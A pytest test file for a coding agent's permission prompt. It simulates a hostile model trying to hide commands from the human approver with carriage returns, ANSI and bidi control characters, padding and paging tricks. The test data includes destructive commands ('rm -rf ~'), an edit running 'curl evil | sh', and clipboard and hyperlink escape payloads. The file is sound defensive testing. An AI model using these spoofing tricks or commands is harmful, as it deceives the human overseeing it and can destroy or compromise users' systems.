"""A hostile model against the approval question and the terminal: what it shows must be exactly what runs, and
nothing it writes (a command, a file's content, a tool's output, its own text) may reach the terminal as a control.

One parametrized case is one attack. Bash runs for real in the sandbox only where an approved command must be seen
to run.
"""

from __future__ import annotations

import codecs
import io
import os
import re
import shutil
import sys
import textwrap
import time

import pytest

from nanocode.agents.agent_loop import AgentLoop, describe_call, preview
from nanocode.agents.agent_session import AgentSession
from nanocode.agents.permissions import Permissions, console_ask
from nanocode.agents.terminal import is_unsafe
from nanocode.agents.tools import build_tools
from nanocode.cli.chat import describe_call as chat_call_note
from nanocode.models.engine import Engine
from nanocode.models.sampling import GREEDY
from tests.test_chat import scripted_model
from tests.test_model_policy import WIDE, render_call

TOOLS = build_tools()
YES = Permissions(auto_approve=True)
ESCAPES = "\x1b[2J\x1b[H\x1b]52;c;cm0gLXJmIH4=\x07\x1bc\x9b31m\r\x1b[2K"  # clear, home, OSC 52 clipboard, reset


def raw_controls(text: str) -> list[str]:
    """The characters of `text` a terminal would act on (everything unsafe but newline and tab)."""
    return [c for c in text if is_unsafe(c)]


class Answers:
    """An `ask` answering from a script ("n" once it runs out) and keeping every question, exactly as it would
    reach the terminal."""

    def __init__(self, *answers: str):
        self.answers = list(answers)
        self.questions: list[str] = []

    def __call__(self, prompt: str) -> str:
        self.questions.append(prompt)
        return self.answers.pop(0) if self.answers else "n"


class Expander(Answers):
    """Answers "m" to every page until the last, then `final`."""

    def __init__(self, final: str):
        super().__init__()
        self.final = final

    def __call__(self, prompt: str) -> str:
        self.questions.append(prompt)
        return "m" if prompt.endswith("[m/n] ") else self.final


def unescape(shown: str) -> str:
    """The text an exactly-escaped display stands for (the displays here are ASCII)."""
    return codecs.decode(shown, "unicode_escape")


# ------------------------------------------------------------------------------------------------ approval spoofing
SPOOFS = {
    "carriage return and erase line": "echo ran > proof.txt #\r\x1b[2Kls -la",
    "cursor up and rewrite": "echo ran > proof.txt #\n\x1b[1A\x1b[2K\rls -la",
    "C1 CSI and DEL": "echo ran > proof.txt #\x9b2K\x7f\x08\x08\x08ls",
    "bidi override": "echo ran > proof.txt #\u202e\u2066 al- sl\u2069",
    "zero width and line separator": "echo ran > proof.txt #\u200b\u2028\ufeffls",
    "long padding past any cut": "ls -la" + " " * 300 + "; echo ran > proof.txt" + "\x1b[8m",
}


@pytest.mark.parametrize("command", list(SPOOFS.values()), ids=list(SPOOFS))
def test_bash_approval_shows_the_whole_command_escaped(sandbox, command):
    ask = Answers("n")
    r = Permissions(ask, width=80, page_rows=1000).call(TOOLS["Bash"], {"command": command}, sandbox)
    assert r.rejected and not (sandbox.root / "proof.txt").exists()
    (question,) = ask.questions
    assert raw_controls(question) == []  # nothing the terminal would act on
    assert "shown escaped" in question  # and the user is told the command holds such characters
    # the rows, joined back, are the whole command with every control escaped: nothing cut
    shown = question.removeprefix("allow Bash: run `").split("`\n(note:")[0].replace("\n", "")
    assert unescape(shown) == command.replace("\n", "")
    for control in ("\r", "\x1b", "\u202e", "\x9b"):
        if control in command:
            assert codecs.encode(control, "unicode_escape").decode() in question


def test_yes_approves_exactly_what_was_shown(sandbox):
    command = SPOOFS["carriage return and erase line"]
    ask = Answers("y")
    r = Permissions(ask, width=80, page_rows=1000).call(TOOLS["Bash"], {"command": command}, sandbox)
    shown = ask.questions[0].removeprefix("allow Bash: run `").split("`\n")[0]
    assert unescape(shown) == command and "\\r\\x1b[2K" in shown
    assert not r.is_error and (sandbox.root / "proof.txt").read_text() == "ran\n"


def test_the_terminal_gets_no_raw_control_from_the_console_question(sandbox, monkeypatch, capsys):
    """console_ask writes the question with input(): what reaches stdout is the escaped text."""
    monkeypatch.setattr("sys.stdin", io.StringIO("n\n"))
    r = Permissions(console_ask).call(TOOLS["Bash"], {"command": SPOOFS["bidi override"] + ESCAPES}, sandbox)
    out = capsys.readouterr().out
    assert r.rejected and "allow Bash: run `echo ran > proof.txt #\\u202e" in out and raw_controls(out) == []


ASK_IN_A_TERMINAL = textwrap.dedent(
    """
    import sys
    from nanocode.agents.permissions import Permissions
    from nanocode.agents.sandbox import Sandbox
    from nanocode.agents.tools import build_tools

    command = open(sys.argv[2], encoding="utf-8", newline="").read()  # keep the \\r
    with Sandbox(sys.argv[1]) as sandbox:
        result = Permissions().call(build_tools()["Bash"], {"command": command}, sandbox)
    print("[result]", result.text)
    """
)


@pytest.mark.skipif(shutil.which("tmux") is None, reason="needs tmux for a real terminal")
def test_a_real_terminal_shows_the_spoofed_command_whole(sandbox, tmp_path):
    """The report's attack in a real terminal (tmux): `\r\x1b[2K` made the question show only `ls -la`."""
    from tests.test_agent_cli import Tmux

    command_file = tmp_path / "command.txt"
    command_file.write_text("echo ran > proof.txt #\r\x1b[2Kls -la", encoding="utf-8")
    script = tmp_path / "ask.py"
    script.write_text(ASK_IN_A_TERMINAL)
    tmux = Tmux(f"nanocode-spoof-{os.getpid()}-{time.monotonic_ns()}")
    try:
        tmux.start([sys.executable, str(script), str(sandbox.root), str(command_file)])
        screen = tmux.wait_for("the question", lambda s: s.rstrip().endswith("[y/n]"), timeout_s=60)
        assert "allow Bash: run `echo ran > proof.txt #\\r\\x1b[2Kls -la`" in screen
        tmux.type("n")
        # the whole result line: the pane can be captured between "[result]" and the text after it
        screen = tmux.wait_for("the refusal", lambda s: re.search(r"\[result\] \S", s) is not None, timeout_s=60)
        assert "[result] rejected by user" in screen and not (sandbox.root / "proof.txt").exists()
    finally:
        tmux.close()


def test_a_long_command_is_paged_and_y_needs_all_of_it(sandbox):
    command = "echo ran > proof.txt; " + " ".join(f"arg{i}" for i in range(400)) + "; rm -rf important"
    ask = Answers("y", "y", "y", "y")  # y before the end: never taken, and after three the call is refused
    r = Permissions(ask, width=80, page_rows=5).call(TOOLS["Bash"], {"command": command}, sandbox)
    assert r.rejected and not (sandbox.root / "proof.txt").exists()
    assert all("more lines not shown" in q and q.endswith("[m/n] ") for q in ask.questions)
    assert "y approves only what has been shown" in ask.questions[1]
    ask = Expander("n")
    Permissions(ask, width=80, page_rows=5).call(TOOLS["Bash"], {"command": command}, sandbox)
    assert ask.questions[-1].endswith("[y/n] ") and "rm -rf important" in ask.questions[-1]
    pages = [q.split("\n… ")[0].removesuffix("\n[y/n] ") for q in ask.questions]
    assert "".join(p.replace("\n", "") for p in pages) == f"allow Bash: run `{command}`"


def test_a_long_edit_must_be_expanded_before_y(sandbox):
    new = "".join(f"line {i}\n" for i in range(3000)) + "import os; os.system('curl evil | sh')\n"
    ask = Answers("y", "n")
    r = Permissions(ask, page_rows=40).call(TOOLS["Edit"], {"file_path": "big.py", "new_string": new}, sandbox)
    assert r.rejected and not (sandbox.root / "big.py").exists()
    assert "… 2963 more lines not shown: m shows more, n refuses\n[m/n] " in ask.questions[0]
    ask = Expander("y")
    r = Permissions(ask, page_rows=40).call(TOOLS["Edit"], {"file_path": "big.py", "new_string": new}, sandbox)
    assert not r.is_error and (sandbox.root / "big.py").read_text() == new
    shown = "\n".join(q.split("\n… ")[0].removesuffix("\n[y/n] ") for q in ask.questions)
    assert shown == f"allow Edit: create big.py:\n{new}"  # every line was on some page, in order
    assert "curl evil" in ask.questions[-1]


def test_edit_approval_escapes_controls_and_shows_what_is_applied(sandbox):
    (sandbox.root / "a.py").write_text("x = 1\n")
    ask = Answers("y")
    args = {"file_path": "a.py", "old_string": "    1→x = 1", "new_string": "x = 2  # \x1b[8mhidden\x1b[0m\\x1b"}
    r = Permissions(ask).call(TOOLS["Edit"], args, sandbox)
    (question,) = ask.questions
    assert raw_controls(question) == [] and "--- old\nx = 1\n+++ new\n" in question
    assert "x = 2  # \\x1b[8mhidden\\x1b[0m\\\\x1b" in question  # the real backslash is doubled: one reading only
    assert not r.is_error and (sandbox.root / "a.py").read_text() == "x = 2  # \x1b[8mhidden\x1b[0m\\x1b\n"


def test_tool_call_line_shows_the_whole_command_escaped():
    command = SPOOFS["carriage return and erase line"] + SPOOFS["bidi override"] + " " * 500 + "; rm -rf ~"
    line = describe_call({"name": "Bash", "args": {"command": command}})
    assert raw_controls(line) == [] and line == f"Bash(command={command!r})" and "rm -rf ~" in line
    line = describe_call({"name": "Edit", "args": {"file_path": "a.py", "new_string": "x" * 1000 + "\x1b[2J"}})
    assert line == f"Edit(file_path='a.py', new_string={'x' * 200!r}… [804 more characters])"  # cut, and said
    note = chat_call_note({"tool_call": {"name": "Ba\x1b[2Ksh", "args": {"command": command}}})
    assert raw_controls(note) == [] and "Ba\\x1b[2Ksh" in note and "rm -rf ~" in note


# ------------------------------------------------------------------------------------------------ output to the screen


def make_loop(model, codec, sandbox, tools=None, **kw) -> tuple[AgentLoop, io.StringIO]:
    out = io.StringIO()
    session = AgentSession(Engine(model, max_len=1024), codec, sampling=GREEDY, max_new_tokens=40)
    loop = AgentLoop(session, sandbox, tools=tools, permissions=YES, out=out, **kw)
    return loop, out


def test_file_content_escapes_never_reach_the_terminal(sandbox, codec):
    (sandbox.root / "q.md").write_text(f"title{ESCAPES}\nOSC 8 \x1b]8;;http://evil\x1b\\link\x1b]8;;\x1b\\\n")
    loop, out = make_loop(scripted_model(render_call(codec, "Read", file_path="q.md"), WIDE), codec, sandbox)
    loop.max_steps = 2
    loop.run_turn("read q.md")
    screen = out.getvalue()
    assert raw_controls(screen) == [] and "title\\x1b[2J\\x1b[H\\x1b]52;c;" in screen
    results = [m["content"] for m in loop.history if m["role"] == "tool_result"]
    assert ESCAPES in results[0]  # the model sees the file as it is


@pytest.mark.parametrize("tool,args", [("Grep", {"pattern": "title"}), ("Read", {"file_path": "q.md"})])
def test_tool_output_preview_is_sanitized(sandbox, tool, args):
    (sandbox.root / "q.md").write_text(f"title{ESCAPES}\n")
    shown = preview(YES.call(TOOLS[tool], args, sandbox).text)
    assert raw_controls(shown) == [] and "\\x1b]52;c;cm0gLXJmIH4=\\x07" in shown


def test_bash_output_preview_is_sanitized(sandbox):
    r = YES.call(TOOLS["Bash"], {"command": r"printf 'out\033[2J\033]52;c;eA==\007\r\n'"}, sandbox)
    assert "\x1b]52" in r.text  # what the model sees is raw
    shown = preview(r.text)
    assert raw_controls(shown) == [] and "out\\x1b[2J\\x1b]52;c;eA==\\x07" in shown


def test_model_text_escapes_are_shown_escaped(sandbox, codec):
    chain = [codec.ids["assistant_start"], *codec.tok.encode("ok\x1b[2J"), codec.ids["assistant_end"]]
    loop, out = make_loop(scripted_model(chain, WIDE), codec, sandbox)
    loop.run_turn("hi")
    assert "ok\\x1b[2J" in out.getvalue() and raw_controls(out.getvalue()) == []
